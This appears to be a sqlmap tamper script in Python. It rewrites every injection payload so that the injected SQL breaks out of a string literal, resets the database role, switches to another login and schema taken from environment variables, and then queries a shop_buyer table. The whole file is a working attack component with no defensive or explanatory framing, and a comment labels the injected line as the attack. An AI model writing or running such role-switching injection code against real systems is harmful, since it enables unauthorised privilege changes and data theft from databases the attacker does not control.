"""For sqlmap: leaves the role and takes the other's, whose names come from the environment."""

from __future__ import annotations

import os

from lib.core.enums import PRIORITY  # type: ignore[import-not-found]  # -- sqlmap's own

__priority__ = PRIORITY.LOWEST


def dependencies() -> None:
    """Nothing but sqlmap."""


def tamper(payload: str, **kwargs: object) -> str:
    """The payload, in a statement that runs after the role was changed."""
    if not payload:
        return payload
    login, schema = os.environ["OTHER_LOGIN"], os.environ["OTHER_SCHEMA"]
    leave = f"x'; RESET ROLE; SET ROLE {login}; SET search_path = {schema}; "
    return leave + "SELECT id, name FROM shop_buyer WHERE name = '" + payload  # noqa: S608 -- the attack
